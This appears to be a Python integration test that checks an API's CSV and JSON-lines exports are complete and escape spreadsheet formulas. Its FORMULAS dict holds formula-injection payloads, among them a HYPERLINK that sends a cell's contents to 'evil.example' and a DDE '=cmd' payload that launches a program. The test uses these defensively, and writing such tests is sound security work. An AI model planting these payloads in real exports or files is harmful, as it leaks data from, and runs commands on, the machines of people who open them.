"""Every list of the API as files: each says what the list says, whole, and nothing in it is run by a spreadsheet."""

import json
from datetime import timedelta
from urllib.parse import quote

import sheets
from support import Findings, ask, eventually, last_monday, moment, post_events

# Each list, where its items stand in the answer, and a column that no row leaves empty.
LISTS = {
    "/v1/records": ("items", "record_id"),
    "/v1/trends?by=week": ("items", "from"),
    "/v1/topics?sort=name": ("items", "topic"),
    "/v1/alerts?days=3650": ("items", "id"),
    "/v1/cases?state=all": ("items", "id"),
    "/v1/digests": ("items", "week"),
    "/v1/deliveries?all=true": ("items", "key"),
    "/v1/corrections": ("items", "id"),
    "/v1/targets": ("targets", "name"),
    "/v1/triage": ("rows", "queue"),
    "/v1/taxonomy?weeks=4": ("topics", "id"),
}
REPORT = {
    "movers": "topic", "topics": "topic", "scores": "kind", "sources": "source", "kinds": "name", "languages": "name",
}
# Columns that nothing on these tables fills: each other one says something in some row.
UNFILLED = {
    # Where it is asked by meaning.
    "/v1/records": {"likeness"},
    "/v1/topics": {"parent"},
    "/v1/taxonomy": {"parent"},
    # Of alerts that are over, belong to another one, or were held back.
    "/v1/alerts": {"resolved_at", "told_with", "why"},
    # Of what is tried again, failed, or has a number of its own where it went.
    "/v1/deliveries": {"next", "reference", "why"},
    "/v1/targets": {"at_most", "owner", "part", "product", "question", "segment", "source", "p90"},
    # Of volumes, and of what some have in common.
    "/v1/insights?list=movers": {"ratio", "carriers"},
    "/v1/insights?list=scores": {"part", "question"},
}
# What a spreadsheet would take for a formula, in words of a customer and in what else they fill in.
FORMULAS = {
    "text": '=HYPERLINK("https://evil.example/?"&A1,"Open")', "title": "+SUM(1,2)", "product": "@A1", "platform": "-2+3",
    "app_version": "=1+1", "territory": "=cmd|' /C calc'!A0", "tags": ["=1", "fine", "+2"],
}

findings = Findings()


def with_ending(address, ending):
    path, mark, query = address.partition("?")
    return f"{path}.{ending}{mark}{query}"


def answered(address):
    """What is counted for the first time is waited for."""
    def counted():
        answer = ask("GET", address)
        return answer if answer.status != 503 else None

    answer = eventually(counted, address)
    assert answer.status == 200, (address, answer.status, answer.body[:300])
    return answer


def whole(address, place):
    """All items of a list, page by page."""
    items, cursor = [], ""
    while True:
        more = ("&" if "?" in address else "?") + "cursor=" + quote(cursor) if cursor else ""
        told = answered(address + more).json()
        items += told[place]
        cursor = told.get("next")
        if not cursor:
            return items


def file(address, ending, kind):
    answer = answered(with_ending(address, ending))
    found, name = answer.headers["content-type"], answer.headers["content-disposition"]
    findings.check(found == kind, f"{address}: {found}")
    named = name.startswith('attachment; filename="verbatim-') and name.endswith(f'.{ending}"')
    findings.check(named, f"{address}: {name}")
    return answer


def lines(address):
    answer = file(address, "jsonl", "application/x-ndjson")
    return [json.loads(line) for line in answer.body.split("\n") if line]


def table(address, items, always):
    names, rows = sheets.read(file(address, "csv", "text/csv; charset=utf-8").body)
    findings.check(len(set(names)) == len(names) and always in names, f"{address}: the columns are {names}")
    findings.check(len(rows) == len(items), f"{address}: {len(rows)} rows of {len(items)} items")
    at = names.index(always)
    for row in rows:
        findings.check(len(row) == len(names) and row[at] != "", f"{address}: a row is {row}")
        findings.add(address, [f"a spreadsheet runs {cell!r}" for cell in row if sheets.is_armed(cell)])
    filled = {name for row in rows for name, cell in zip(names, row, strict=False) if cell}
    usual = UNFILLED.get(address) or UNFILLED.get(address.partition("?")[0], set())
    findings.check(set(names) - filled <= usual, f"{address}: no row fills {set(names) - filled - usual}")
    print(f"{address}: {len(items)}")


def one_list(address, place, always):
    # What is counted beside may be told anew meanwhile.
    def same():
        items = whole(address, place)
        return (items,) if lines(address) == items else None

    (items,) = eventually(same, f"{address} and its JSON lines to say the same")
    findings.check(items, f"{address}: the list is empty")
    table(address, items, always)


def the_report():
    for name, always in REPORT.items():
        def same(name=name):
            told = answered("/v1/insights").json()[name]
            return (told,) if lines(f"/v1/insights?list={name}") == told else None

        (told,) = eventually(same, f"the report's {name} and their JSON lines to say the same")
        findings.check(told, f"the report's {name} are none")
        table(f"/v1/insights?list={name}", told, always)
    answer = ask("GET", "/v1/insights.csv?list=everything")
    findings.check(answer.status == 400, f"a list that there is not: {answer.status}")


def posted(path, body=None):
    answer = ask("POST", path, body or {})
    assert answer.status < 300, (path, answer.status, answer.body)


def fill():
    """So that there is something of everything: a correction, and what becomes of a case and an alert; with formulas in it."""
    record = answered("/v1/records?limit=1").json()["items"][0]["record_id"]
    posted("/v1/corrections", {"record": record, "field": "sentiment", "value": "neutral", "note": "=1+1; =2"})
    case = answered("/v1/cases").json()["items"][0]["id"]
    alert = answered("/v1/alerts").json()["items"][0]["id"]
    for step in ("acknowledge", "resolve"):
        posted(f"/v1/cases/{case}/{step}")
    for change, body in (("acknowledge", None), ("useful", None), ("silence", {"until": "2099-12-31", "reason": "=1+1"})):
        posted(f"/v1/alerts/{alert}/{change}", body)


def formulas():
    """What a customer writes stands in a cell as it is written, behind an apostrophe; to programs it is what it was."""
    post_events([{
        "specversion": "1.0", "id": "formulas", "source": "formulas", "type": "feedback.social.created",
        "time": moment(last_monday() - timedelta(days=1)), "data": {"id": "formulas", **FORMULAS},
    }])
    address = "/v1/records?event_source=formulas"
    (item,) = eventually(lambda: ask("GET", address).json().get("items"), "the event with formulas")
    findings.check({name: item[name] for name in FORMULAS} == FORMULAS, f"a program is told {item}")
    names, (row,) = sheets.read(file(address, "csv", "text/csv; charset=utf-8").body)
    cells = dict(zip(names, row, strict=True))
    for name, said in FORMULAS.items():
        # Each tag may be a cell of its own.
        safe = f"'{said}" if isinstance(said, str) else "'=1; fine;' +2"
        findings.check(cells[name] == safe, f"the {name} {said!r} stands in a cell as {cells[name]!r}")


def main():
    fill()
    for address, (place, always) in LISTS.items():
        one_list(address, place, always)
    the_report()
    formulas()
    wrong = ask("GET", "/v1/cases.csv?state=lost")
    findings.check(wrong.status == 400, f"a state that there is not: {wrong.status}")
    findings.end()


main()
